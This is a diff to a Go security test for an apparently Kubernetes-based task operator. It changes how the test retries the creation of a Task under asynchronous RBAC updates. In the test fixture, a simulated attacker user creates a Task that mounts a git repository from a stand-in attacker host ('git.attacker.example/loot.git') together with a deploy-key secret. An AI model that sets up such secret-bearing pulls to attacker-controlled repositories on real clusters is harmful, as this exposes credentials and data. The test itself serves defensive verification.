@@ -68,12 +68,15 @@ func TestT22NoTaskStartsWithoutThePolicies(t *testing.T) {
 		tk.Spec.Contexts = []v1alpha1.ContextItem{{Type: v1alpha1.ContextTypeGit, MountPath: "/workspace/loot", Git: &v1alpha1.GitContext{
 			Repository: "https://git.attacker.example/loot.git", SecretRef: &v1alpha1.LocalSecretReference{Name: "deploy-key"}}}}
 	})
-	err = wait.PollUntilContextTimeout(ctx, 50*time.Millisecond, 30*time.Second, true, func(ctx context.Context) (bool, error) {
-		err := mallory.Create(ctx, tk.DeepCopy())
-		return !apierrors.IsForbidden(err), err // RBAC bindings arrive asynchronously
+	// RBAC bindings, and the binding's deletion, reach the API server's authorizer and admission
+	// plugin asynchronously: retry while refused, bounded.
+	var last error
+	_ = wait.PollUntilContextTimeout(ctx, 50*time.Millisecond, 30*time.Second, true, func(ctx context.Context) (bool, error) {
+		last = mallory.Create(ctx, tk.DeepCopy())
+		return !apierrors.IsForbidden(last), nil
 	})
-	if err != nil {
-		t.Fatalf("the API server should admit the Task without the binding: %v", err)
+	if last != nil {
+		t.Fatalf("the API server should admit the Task without the binding: %v", last)
 	}
 	got := waitPhase(t, tk, v1alpha1.TaskPhaseFailed)
 	if c := succeeded(got); c.Reason != v1alpha1.ReasonAdmissionPoliciesMissing || !strings.Contains(c.Message, wantMissing) {
